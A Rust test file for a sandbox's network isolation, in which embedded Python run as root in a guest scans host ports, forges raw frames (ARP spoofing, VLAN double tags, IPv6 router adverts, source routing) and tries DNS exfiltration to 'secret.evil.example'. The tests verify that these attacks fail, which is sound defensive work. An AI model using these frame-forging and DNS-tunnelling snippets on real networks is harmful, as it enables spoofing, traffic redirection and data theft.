//! Network attacks by root in a guest, in addition to network.rs: ports of the daemon, raw frames,
//! DNS as a way out.
//!
//! A *slot* is a network namespace with its devices and rules. Slots are prepared in advance, and
//! each is assigned to one guest. Inside, each guest has the address 169.254.0.21, and its gateway
//! and name server have the address 169.254.0.22. On the host, the slots have addresses of
//! 198.18.0.0/15.

use crate::support::lab::{HOST, RESOLVER, with_lab};
use crate::support::network_probe::{assert_clean, create, networked, python, reach, root_python};
use crate::support::test_home::TestHome;
use jiffy_test_attributes::jiffy_test;
use serde_json::json;
use std::collections::BTreeSet;
use std::net::UdpSocket;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::Duration;

/// Functions for raw frames, for programs in guests.
const FRAMES: &str = r#"
import fcntl, struct
# SIOCGIFHWADDR (netdevice(7)).
OWN = fcntl.ioctl(socket.socket(), 0x8927, struct.pack("256s", b"eth0"))[18:24]
GATEWAY = b"\x02\x4a\x49\x46\x46\x02"
EVERYBODY = b"\xff" * 6
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))
def send(kind, payload, to=GATEWAY, source=OWN):
    try: link.send(to + source + struct.pack("!H", kind) + payload.ljust(46, b"\0"))
    except OSError as e: return type(e).__name__
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return struct.pack("!H", total ^ 0xffff)
def ip(to, protocol, payload, source="169.254.0.21", fragment=0, options=b""):
    head = struct.pack("!BBHHHBB", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 77, fragment, 64, protocol)
    tail = socket.inet_aton(source) + socket.inet_aton(to) + options
    return head + checksum(head + tail) + tail + payload
def udp(to, text, port=7, **more):
    return ip(to, 17, struct.pack("!HHHH", 5000, port, 8 + len(text), 0) + text, **more)
"#;

/// Returns the TCP ports with a listener in this network namespace.
fn listening() -> BTreeSet<u16> {
    let mut ports = BTreeSet::new();
    for file in ["tcp", "tcp6"] {
        let text = std::fs::read_to_string(format!("/proc/thread-self/net/{file}"));
        for line in text.unwrap_or_default().lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            // TCP_LISTEN (include/net/tcp_states.h).
            if fields[3] == "0A" {
                let port = fields[1].rsplit(':').next().unwrap();
                ports.insert(u16::from_str_radix(port, 16).unwrap());
            }
        }
    }
    ports
}

#[jiffy_test(engine = "each", lab)]
fn no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host() {
    with_lab(|_| {
        let test_home = TestHome::new();
        let received = UdpSocket::bind("0.0.0.0:7").unwrap();
        // Without a key, the daemon would not listen on other addresses.
        test_home.ok(&["key", "create", "--name", "test"]);
        let start = ["daemon", "start", "--listen", "0.0.0.0:0"];
        let options = ["--network", "on", "--warm-pool", "0"];
        let report = test_home.ok(&[&start[..], &options].concat());
        let port = report.lines().find_map(|l| l.strip_prefix("listening on "));
        let port: u16 = port.unwrap().rsplit(':').next().unwrap().parse().unwrap();
        let mut ports = listening();
        assert!(ports.contains(&port), "{ports:?} of {report}");
        // Ports in its namespace: name server, proxy, and common ports of other programs.
        ports.extend([22, 53, 80, 443, 3000, 3180, 3443, 8080, 49_983, 49_984]);
        let id = test_home.ok(&["create"]);
        let slots: Vec<String> = (0..8).map(|i| format!("198.18.0.{i}")).collect();
        let addresses = [HOST, "169.254.0.22", "169.254.0.1", "0.0.0.0", "11.0.0.255"];
        let addresses = addresses.map(str::to_owned).into_iter().chain(slots);
        let (addresses, ports): (Vec<_>, Vec<_>) = (addresses.collect(), ports.iter().collect());
        let program = format!(
            r#"
found = set()
for host in {addresses:?}:
    for port in {ports:?}:
        s = socket.socket()
        s.settimeout(2)
        # Towards the card, including addresses that the guest treats as its own.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        try: s.connect((host, port)); found.add((host, port))
        except OSError: pass
        s.close()
print(sorted(found))
"#
        );
        // Only the guest's own name server is reachable; the unspecified address is the guest
        // itself.
        assert_eq!(
            root_python(&test_home, &id, &program),
            "[('169.254.0.22', 53)]"
        );
        // Raw frames to addresses that sockets reject: the host's loopback, broadcast, multicast,
        // another address of the guest; and with loose source routing (RFC 791).
        let program = format!(
            r#"{FRAMES}
here = ["127.0.0.1", "{HOST}", "0.0.0.0", "255.255.255.255", "224.0.0.1", "11.0.0.255"]
here += ["198.18.0.%d" % n for n in range(16)]
for to in here:
    for mac in (GATEWAY, EVERYBODY, b"\x01\x00\x5e\x00\x00\x01"):
        send(0x0800, udp(to, b"here"), mac)
    send(0x0800, udp(to, b"by the way", options=b"\x83\x07\x04" + socket.inet_aton("{HOST}") + b"\0"))
    send(0x0800, udp("9.9.9.9", b"by the way", options=b"\x83\x07\x04" + socket.inet_aton(to) + b"\0"))
"#
        );
        root_python(&test_home, &id, &program);
        // Earlier packets have passed when an answer has arrived over the same link.
        assert_eq!(reach(&test_home, &id, "9.9.9.9"), "internet");
        received.set_nonblocking(true).unwrap();
        let mut buffer = [0; 64];
        assert!(
            received.recv_from(&mut buffer).is_err(),
            "the host was reached"
        );
        test_home.ok(&["daemon", "stop", "--kill-sandboxes"]);
        drop(test_home);
        assert_clean();
    });
}

/// Returns all packets that arrive from slots in the lab's host until `stop` is set: kinds of
/// frames, and the source addresses of IPv4.
fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
    let all = libc::ETH_P_ALL.cast_unsigned() as u16;
    // SAFETY: creates a socket in the network namespace of this thread.
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW | libc::SOCK_NONBLOCK,
            all.to_be().into(),
        )
    };
    assert!(fd >= 0);
    // SAFETY: the descriptor was just created and has no other owner.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    thread::spawn(move || {
        let mut seen = BTreeSet::new();
        let mut frame = [0u8; 2048];
        while !stop.load(Ordering::SeqCst) {
            // SAFETY: all zeros are a valid `sockaddr_ll`, which contains only integers.
            let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
            let mut length = size_of::<libc::sockaddr_ll>().try_into().unwrap();
            // SAFETY: buffer and address have the given lengths and outlive the call.
            let read = unsafe {
                libc::recvfrom(
                    socket.as_raw_fd(),
                    frame.as_mut_ptr().cast(),
                    frame.len(),
                    0,
                    (&raw mut from).cast(),
                    &raw mut length,
                )
            };
            // Shorter than the headers of Ethernet (14 bytes) and IPv4 (20 bytes), or no frame.
            if read < 34 {
                thread::sleep(Duration::from_millis(1));
                continue;
            }
            let index = from.sll_ifindex.cast_unsigned();
            let name = nix::net::if_::if_indextoname(index);
            let slot = name.is_ok_and(|name| name.to_string_lossy().starts_with("jf"));
            if slot && from.sll_pkttype != libc::PACKET_OUTGOING {
                let kind = u16::from_be_bytes([frame[12], frame[13]]);
                seen.insert(match kind {
                    0x0800 => format!("IPv4 from {}.{}", frame[26], frame[27]),
                    0x0806 => "ARP".to_owned(),
                    other => format!("{other:#06x}"),
                });
            }
        }
        seen
    })
}

#[jiffy_test(
    not_on_gvisor = "gVisor does not allow bound packet sockets to send",
    lab
)]
fn raw_frames_of_any_kind_reach_no_other_guest() {
    networked(&[], |test_home, lab| {
        let (id, other) = (test_home.ok(&["create"]), test_home.ok(&["create"]));
        assert_eq!(reach(test_home, &other, "9.9.9.9"), "internet");
        let stop = Arc::new(AtomicBool::new(false));
        let sniffer = listen_to_slots(stop.clone());
        let program = format!(
            r#"{FRAMES}
def arp(operation, mac, address, to=GATEWAY):
    send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + to + socket.inet_aton("169.254.0.22"), to)
    send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + EVERYBODY + socket.inet_aton(address), EVERYBODY)
# A receiver that accepts one of these sends packets to the wrong host.
for operation in (1, 2):
    for address in ("169.254.0.22", "169.254.0.23", "198.18.0.0", "198.18.0.1", "198.18.0.2", "11.0.0.1"):
        arp(operation, OWN, address)
        arp(operation, GATEWAY, address)
    arp(operation, b"\x02\0\0\0\0\x01", "169.254.0.21")
packet = udp("9.9.9.9", b"in disguise")
# Unused protocols: LLDP, EAPOL, MPLS, PPPoE, loopback, Novell's, 802.3 lengths.
for kind in (0x88cc, 0x888e, 0x8847, 0x8848, 0x8863, 0x8864, 0x9000, 0x8137, 0x0026, 0x22f0, 0xffff):
    for to in (GATEWAY, EVERYBODY, b"\x01\x80\xc2\0\0\x0e"):
        send(kind, packet, to)
# With one and two VLAN tags.
for tag in (0, 1, 100, 4095):
    for outer in (0x8100, 0x88a8, 0x9100):
        send(outer, struct.pack("!HH", tag, 0x0800) + packet)
        send(outer, struct.pack("!HHHH", tag, 0x8100, tag, 0x0800) + packet)
# An IPv6 router advertisement with its own prefix, and a neighbour advertisement.
router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\3\4\x40\xc0" + b"\xff" * 8 + bytes(4) + bytes.fromhex("2a000001") + bytes(12)
for kind in (router, struct.pack("!BBHI", 136, 0, 0, 0xe0000000) + bytes.fromhex("fe80") + bytes(14)):
    head = struct.pack("!IHBB", 0x60000000, len(kind), 58, 255) + bytes.fromhex("fe80") + bytes(13) + b"\1"
    send(0x86dd, head + bytes.fromhex("ff02") + bytes(13) + b"\1" + kind, b"\x33\x33\0\0\0\1")
# An IPv6 address set manually with SIOCSIFADDR (0x8916), although IPv6 is disabled.
for name in ("all", "eth0"):
    try: open("/proc/sys/net/ipv6/conf/%s/disable_ipv6" % name, "w").write("0")
    except OSError: pass
try:
    import fcntl
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    index = socket.if_nametoindex("eth0")
    fcntl.ioctl(six, 0x8916, socket.inet_pton(socket.AF_INET6, "2a00:1::7") + struct.pack("Ii", 64, index))
    for to in ("2a00:1::1", "ff02::1"):
        six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        six.sendto(b"by IPv6", (to, 7, 0, index))
except OSError: pass
# Larger than the MTU, broken, fragmented, too short for their headers, with other protocols inside.
for length in (1500, 2000, 9000, 65000):
    send(0x0800, udp("9.9.9.9", b"x" * length)[:length + 20])
for packet in (b"", b"\x45", b"\x4f" + b"\0" * 19, b"\x45\0\xff\xff" + packet[4:], b"\x65" + packet[1:], packet[:24]):
    send(0x0800, packet)
for fragment in (0x2000, 0x1fff, 0x3fff):
    send(0x0800, udp("9.9.9.9", b"x" * 1400, fragment=fragment))
for protocol in (2, 4, 41, 47, 50, 89, 112, 132, 255):
    send(0x0800, ip("{HOST}", protocol, packet))
send(0x0800, udp("9.9.9.9", b"its own"))
"#
        );
        root_python(test_home, &id, &program);
        // Earlier packets used the same path, so they have arrived.
        let (from, text) = lab.datagrams.recv_timeout(Duration::from_secs(20)).unwrap();
        assert_eq!(String::from_utf8_lossy(&text), "its own");
        assert_eq!(from.ip().to_string(), HOST);
        // No connection was redirected.
        assert_eq!(reach(test_home, &other, "9.9.9.9"), "internet");
        assert_eq!(reach(test_home, &id, "9.9.9.9"), "internet");
        stop.store(true, Ordering::SeqCst);
        let seen = sniffer.join().unwrap();
        let expected = ["ARP", "IPv4 from 198.18"].map(str::to_owned);
        assert!(seen.is_subset(&expected.into()), "{seen:?}");
        assert!(seen.contains("IPv4 from 198.18"), "no packet was received");
    });
}

/// Sends raw questions to name servers, for programs in guests.
const ASK: &str = r#"
import struct
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
def ask(server, name, kind=1, over="udp"):
    text = question(name, kind)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect((server, 53))
            s.send(text if over == "udp" else struct.pack("!H", len(text)) + text)
            if over == "udp": answer = s.recv(512)
            else:
                file = s.makefile("rb")
                answer = file.read(*struct.unpack("!H", file.read(2)))
            # NOERROR, REFUSED, or not even a header (RFC 1035 4.1.1).
            return {0: "answer", 5: "refused"}.get(answer[3] & 15, "other") if len(answer) > 3 else "closed"
    except OSError: return "nobody"
"#;

#[jiffy_test(engine = "each", lab)]
fn dns_carries_no_data_out_under_restricted_egress() {
    networked(&[], |test_home, _| {
        let run = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
        // The guest sends questions of the types A (1), NS, CNAME, NULL, TXT and AAAA. They go to
        // the guest's name server, and to others, which would answer.
        let program = format!(
            r#"
name = "aGVsbG8.secret.evil.example"
own = {{ask("169.254.0.22", name, kind, over) for kind in (1, 2, 5, 10, 16, 28) for over in ("udp", "tcp")}}
others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in ("udp", "tcp")}}
print(*own, *others, ask("169.254.0.22", "good.example"))
"#
        );
        // Without restrictions, all questions are answered.
        let open = create(test_home, json!({}));
        let secret = "print(ask('169.254.0.22', 'secret.evil.example', 16))";
        assert_eq!(run(&open, secret), "answer");
        let at_resolver = format!("print(ask('{RESOLVER}', 'a.example'), tcp('{RESOLVER}', 53))");
        assert_eq!(run(&open, &at_resolver), "answer internet");

        let closed = create(test_home, json!({ "allow_internet_access": false }));
        assert_eq!(run(&closed, &program), "refused nobody refused");

        let rules =
            json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
        let names = create(test_home, rules);
        assert_eq!(run(&names, &program), "refused nobody answer");
        // The guest hides data in a second question, in an update (operation code 5, the byte
        // 0x29), in a response (0x81), and in messages that are too short.
        let hidden = r#"
def raw(text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect(("169.254.0.22", 53))
        s.send(text)
        try: return s.recv(512)[3] & 15
        except OSError: return "silence"
good, evil = question("good.example", 16), question("secret.evil.example", 16)
two = good[:4] + struct.pack("!4H", 2, 0, 0, 0) + good[12:] + evil[12:]
print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evil[3:]), raw(b"\0" * 11), raw(evil[:20]))
"#;
        // The name server answers NOTIMP (4) to several questions and to updates. It ignores
        // responses and truncated messages.
        assert_eq!(run(&names, hidden), "4 4 silence silence silence");
    });
}
